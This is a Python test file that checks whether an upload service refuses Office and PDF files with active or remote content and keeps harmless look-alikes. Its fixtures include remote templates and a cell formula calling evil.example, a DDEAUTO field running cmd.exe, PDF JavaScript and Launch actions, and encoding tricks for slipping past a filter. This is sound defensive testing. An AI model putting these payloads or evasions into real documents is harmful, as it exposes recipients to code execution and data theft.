"""Papers that do something when they are opened, however well it is hidden; and those that only look like it."""

from __future__ import annotations

import zipfile
import zlib
from io import BytesIO
from pathlib import Path
from typing import Final

import pytest

from tests import paper_files
from tests.wxsvc.test_files import excel_workbook, word_document
from wxsvc.files import Files
from wxsvc.uploads.filetypes import FileFault, FileRefused

RELATIONS: Final = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE: Final = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def with_part(content: bytes, name: str, part: str | bytes) -> bytes:
    """The same file with one more part, or with this one in place of its own."""
    out = BytesIO()
    with zipfile.ZipFile(BytesIO(content)) as given, zipfile.ZipFile(out, "w") as made:
        for each in given.namelist():
            if each != name:
                made.writestr(each, given.read(each))
        made.writestr(name, part)
    return out.getvalue()


def refers(kind: str, target: str, content: bytes = b"", encoding: str = "utf-8") -> bytes:
    """A Word file whose settings refer to something outside."""
    text = (
        f'<?xml version="1.0"?><Relationships xmlns="{RELATIONS}"><Relationship Id="r1" TargetMode="External"'
        f' Type="{OFFICE}/{kind}" Target="{target}"/></Relationships>'
    )
    return with_part(content or word_document(), "word/_rels/settings.xml.rels", text.encode(encoding))


def types(extra: str) -> bytes:
    with zipfile.ZipFile(BytesIO(excel_workbook())) as given:
        text = given.read("[Content_Types].xml").decode()
    return with_part(excel_workbook(), "[Content_Types].xml", text.replace("</Types>", f"{extra}</Types>"))


def pdf(*objects: bytes) -> bytes:
    return paper_files.pdf("", *objects)


def packed(content: bytes) -> bytes:
    """Objects in a stream, as PDF writers pack them."""
    body = zlib.compress(b"5 0 " + content)
    return (
        b"9 0 obj\n<</Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d>>\nstream\n%s\nendstream\nendobj\n"
        % (
            len(body),
            body,
        )
    )


def stream(dictionary: bytes, body: bytes) -> bytes:
    return b"9 0 obj\n<<%s>>\nstream\n%s\nendstream\nendobj\n" % (dictionary, body)


def relations(element: str, *, prefix: str = "", before: str = "", encoding: str = "utf-8") -> bytes:
    """A Word file whose references are written in a way that a search for words passes over."""
    name = f"{prefix}:" if prefix else ""
    space = f"xmlns:{prefix}" if prefix else "xmlns"
    text = f'{before}<{name}Relationships {space}="{RELATIONS}"><{name}Relationship {element}/></{name}Relationships>'
    return with_part(word_document(), "word/_rels/document.xml.rels", text.encode(encoding))


def written(body: str, encoding: str = "utf-8") -> bytes:
    """A Word file with this text."""
    space = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    text = f'<w:document xmlns:w="{space}"><w:body><w:p>{body}</w:p></w:body></w:document>'
    return with_part(word_document(), "word/document.xml", text.encode(encoding))


def field(*texts: str) -> str:
    """A field as Word writes it: its instruction in pieces behind the mark of its beginning."""
    pieces = "".join(f"<w:r><w:instrText>{text}</w:instrText></w:r>" for text in texts)
    return f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{pieces}<w:r><w:fldChar w:fldCharType="end"/></w:r>'


def connected(said: str) -> bytes:
    text = f'<connections xmlns="x"><connection id="1" {said}><webPr url="https://evil.example/"/></connection></connections>'
    return with_part(excel_workbook(), "xl/connections.xml", text)


def calculated(formula: str) -> bytes:
    """An Excel file with this in a cell."""
    space = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    text = (
        f'<worksheet xmlns="{space}"><sheetData><row r="1"><c r="A1"><f>{formula}</f></c></row></sheetData></worksheet>'
    )
    return with_part(excel_workbook(), "xl/worksheets/sheet1.xml", text)


SCRIPT: Final = b"<</S/JavaScript/JS(x)>>"
DEFLATED: Final = zlib.compress(b"5 0 " + SCRIPT)
TEMPLATE: Final = f'Id="r1" TargetMode="External" Type="{OFFICE}/attachedTemplate" Target="https://evil.example/t"'


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (refers("attachedTemplate", "https://evil.example/t.dotm"), FileFault.REMOTE),
        (refers("attachedTemplate", "\\\\evil.example\\t.dotm"), FileFault.REMOTE),
        (refers("attachedTemplate", "file://evil.example/t.dotm"), FileFault.REMOTE),
        (refers("attachedTemplate", "&#104;ttps://evil.example/t"), FileFault.REMOTE),
        (refers("oleObject", "mhtml:https://evil.example/x!x"), FileFault.REMOTE),
        (refers("frame", "https://evil.example/", encoding="utf-16"), FileFault.REMOTE),
        (with_part(excel_workbook(), "xl/macrosheets/sheet1.xml", "<x/>"), FileFault.MACROS),
        (with_part(word_document(), "word/activeX/activeX1.xml", "<x/>"), FileFault.MACROS),
        (with_part(word_document(), "WORD\\VBAPROJECT.BIN", b"x"), FileFault.MACROS),
        (
            types('<Override PartName="/xl/a.png" ContentType="application/vnd.ms-office.&#118;baProject"/>'),
            FileFault.MACROS,
        ),
        (refers("vbaProject", "a.png"), FileFault.MACROS),
        (written(field(" DDEAUTO c:\\\\cmd.exe /k calc")), FileFault.MACROS),
        (written(field(" d", "d", "E", " a b")), FileFault.MACROS),
        (written(field(" &#68;D<!-- -->EAUTO a b"), "utf-16"), FileFault.MACROS),
        (written(field(" IF 1 ", "= 1 " + field(" DDE a b"))), FileFault.MACROS),
        (written('<w:fldSimple w:instr=" DDEAUTO a b"/>'), FileFault.MACROS),
        (with_part(word_document(), "word/a.png", b"\n<x><instrText>DDE a b</instrText></x>"), FileFault.MACROS),
        (relations('Id="r1" Target="a.html" Type="http://purl.oclc.org/x/relationships/aFChunk"'), FileFault.HIDDEN),
        (connected('refreshOnLoad="1"'), FileFault.REMOTE),
        (calculated('_xlfn.WEBSERVICE("https://evil.example/?"&amp;A2)'), FileFault.REMOTE),
        (calculated("IF(B1&gt;0,_xlfn._xlws.image <!-- -->(A3),0)"), FileFault.REMOTE),
        (calculated('RTD("evil.server",,"x")'), FileFault.MACROS),
        *(
            (calculated(f"{sign}EBSERVICE(A1)"), FileFault.REMOTE)
            for sign in ("&#87;", "&#x57;", "&#000087;", f"&#x{'0' * 3000}57;")
        ),
        (
            with_part(
                excel_workbook(), "xl/a.xml", '<w xmlns="/spreadsheetml/"><definedName>IMAGE(A1)</definedName></w>'
            ),
            FileFault.REMOTE,
        ),
        (written("<!DOCTYPE x>" + field("DDE a b")), FileFault.BROKEN),
        (pdf(b"1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n"), FileFault.SCRIPTED),
        (pdf(b"1 0 obj<</OpenAction 2 0 R>>endobj 2 0 obj<</S/URI>>endobj\n"), FileFault.SCRIPTED),
        (pdf(b"1 0 obj<</A<</S/Launch/F(cmd.exe)>>>>endobj\n"), FileFault.SCRIPTED),
        (pdf(b"1 0 obj<</Names<</#4a#61vaScript 2 0 R>>>>endobj\n"), FileFault.SCRIPTED),
        (pdf(packed(b"<</S/JavaScript/JS(x)>>")), FileFault.SCRIPTED),
        (pdf(b"1 0 obj<</Names<</EmbeddedFiles 2 0 R>>>>endobj\n"), FileFault.ATTACHMENTS),
        (pdf(packed(b"<</Type/EmbeddedFile>>")), FileFault.ATTACHMENTS),
        (relations(f'Id="a>b" {TEMPLATE[8:]}'), FileFault.REMOTE),
        (relations(TEMPLATE, prefix="a-b"), FileFault.REMOTE),
        (
            relations(TEMPLATE, before='<?xml version="1.0" encoding="UTF-16LE"?>', encoding="utf-16-le"),
            FileFault.REMOTE,
        ),
        (relations(TEMPLATE.replace("https", "ftp+x.y")), FileFault.REMOTE),
        (relations(TEMPLATE.replace("attachedTemplate", "image")), FileFault.REMOTE),
        (relations(TEMPLATE, before=" " * 2**21), FileFault.BROKEN),
        (
            relations(TEMPLATE.replace("Template", "&t;"), before='<!DOCTYPE r [<!ENTITY t "Template">]>'),
            FileFault.BROKEN,
        ),
        (
            with_part(excel_workbook(), "xl/externalLinks/externalLink1.xml", '<x:ddeLink ddeService="cmd"/>'),
            FileFault.MACROS,
        ),
        (with_part(word_document(), "word/vbaProjec%74.bin", b"x"), FileFault.MACROS),
        (pdf(stream(b"/Type/Obj#53tm/Filter/FlateDecode", DEFLATED)), FileFault.SCRIPTED),
        (pdf(stream(b"/Type%x\n/ObjStm/Filter[/FlateDecode]", DEFLATED)), FileFault.SCRIPTED),
        (pdf(stream(b"/Type/ObjStm/D<</E 1>>/Filter/FlateDecode", DEFLATED)), FileFault.SCRIPTED),
        (pdf(stream(b"/Type/ObjStm", b"5 0 " + SCRIPT)), FileFault.SCRIPTED),
        (
            pdf(stream(b"/Type/ObjStm/Filter/FlateDecode", DEFLATED).replace(b"stream\n", b"stream %c\n", 1)),
            FileFault.SCRIPTED,
        ),
        (pdf(stream(b"/Type/ObjStm/Filter[/ASCIIHexDecode/FlateDecode]", DEFLATED.hex().encode())), FileFault.HIDDEN),
        (pdf(stream(b"/Type/ObjStm/Filter[/Fl/Fl]", zlib.compress(DEFLATED))), FileFault.HIDDEN),
        (pdf(stream(b"/Type/ObjStm/Filter 7 0 R", DEFLATED)), FileFault.HIDDEN),
        (pdf(stream(b"/Type/ObjStm/DecodeParms<</Predictor 12>>/Filter/FlateDecode", DEFLATED)), FileFault.HIDDEN),
        (pdf(stream(b"/Type/ObjStm/Filter/FlateDecode", b"encrypted")), FileFault.HIDDEN),
        (pdf(b"1 0 obj<</X (", stream(b"/Type/ObjStm/Filter/FlateDecode", DEFLATED), b")>>"), FileFault.HIDDEN),
        (pdf(stream(b"", b"hidden in a picture: 5 0 obj " + SCRIPT)), FileFault.SCRIPTED),
        (pdf(b"% >>stream\n1 0 obj<</OpenAction", SCRIPT, b">>endobj\n% endstream\n"), FileFault.SCRIPTED),
        (pdf(b"1 0 obj<</X (>>stream\n)/OpenAction", SCRIPT, b"/Y(endstream)>>endobj\n"), FileFault.SCRIPTED),
        (pdf(b"1 0 obj<</AA<</O<</S/URI/URI(https://evil.example)>>>>>>endobj\n"), FileFault.SCRIPTED),
        (pdf(b"1 0 obj<</OpenAction%x\n2 0 R>>endobj 2 0 obj<</S/URI>>endobj\n"), FileFault.SCRIPTED),
        (pdf(b"1 0 obj<</OpenAction 2 0 R>>endobj\n% 2 0 obj [\n2 0 obj<</S/URI>>endobj\n"), FileFault.SCRIPTED),
        (pdf(b"1 0 obj<</OpenAction<</S/GoTo/D[3 0 R/Fit]/Next 4 0 R>>>>endobj\n"), FileFault.SCRIPTED),
        (
            pdf(b"1 0 obj<</OpenAction 5 0 R>>endobj\n", packed(b"<</S/URI/URI(https://evil.example)>>")),
            FileFault.SCRIPTED,
        ),
        (pdf(b"1 0 obj<</AcroForm<</XFA 3 0 R>>>>endobj\n"), FileFault.SCRIPTED),
    ],
)
def test_what_acts_by_itself_is_refused_by_content(tmp_path: Path, content: bytes, reason: FileFault) -> None:
    refuses(tmp_path, content, reason)


def test_what_unpacks_to_too_much_is_refused(tmp_path: Path) -> None:
    refuses(tmp_path, pdf(stream(b"/Type/ObjStm/Filter/FlateDecode", zlib.compress(b" " * 2**27, 1))), FileFault.HIDDEN)


def refuses(tmp_path: Path, content: bytes, reason: FileFault) -> None:
    with pytest.raises(FileRefused) as refused:
        Files(tmp_path, 2**22).store_paper(BytesIO(content))
    assert refused.value.reason is reason
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize(
    "content",
    [
        refers("attachedTemplate", "file:///C:\\Users\\wang\\Normal.dotm"),
        refers("hyperlink", "https://www.example.cn/"),
        written(field(' HYPERLINK "https://www.example.cn/dde"') + field(" PAGE ") + "<w:t>DDE</w:t>"),
        written("<w:r><w:t>instrText DDEAUTO</w:t></w:r>"),
        connected('refreshOnLoad="0"'),
        calculated('_xlfn.DISPIMG("ID_0A1B",1)'),
        calculated("SUM(A2:A9)&amp;\"WEBSERVICE(x)\"&amp;'IMAGE (1)'!A1"),
        written("<w:t>WEBSERVICE(x)</w:t>"),
        with_part(word_document(), "word/media/a.svg", "<!-- drawn --><!DOCTYPE svg><svg><f>IMAGE(x)</f></svg>"),
        pdf(b"1 0 obj<</OpenAction[3 0 R/FitH 0]>>endobj\n"),
        pdf(b"1 0 obj<</OpenAction 8 0 R>>endobj\n8 0 obj\n[3 0 R /Fit]\nendobj\n"),
        pdf(b"1 0 obj<</OpenAction<</Type/Action/S/GoTo/D[3 0 R/Fit]>>>>endobj\n"),
        pdf(b"1 0 obj<</OpenAction 5 0 R>>endobj\n", packed(b"<</S /GoTo /D (top)>>")),
        pdf(b"1 0 obj<</Length 20>>\nstream\n(see /JavaScript and /Launch)\nendstream\nendobj\n"),
        refers("externalLinkPath", "\\\\10.0.0.5\\share\\book.xlsx"),
        pdf(packed(b"<</Type/Page>>")),
        pdf(
            packed(b"<</Type/Page>>"),
            b"2 0 obj<</Subtype/Link/F 4/OpenActionable 1>>endobj\n",
            packed(b"<</Type/Font>>"),
        ),
        pdf(b"1 0 obj<</Title(50% \\( off)>>endobj\n", stream(b"/Length 9", b"\xff\x00/JavaScript"), packed(b"<<>>")),
        pdf(b"9 0 obj<</Type /ObjStm>>\nstream\nnot packed at all\nendstream\nendobj\n"),
    ],
)
def test_what_only_looks_like_it_is_kept(tmp_path: Path, content: bytes) -> None:
    assert Files(tmp_path, 2**20).store_paper(BytesIO(content)).size == len(content)
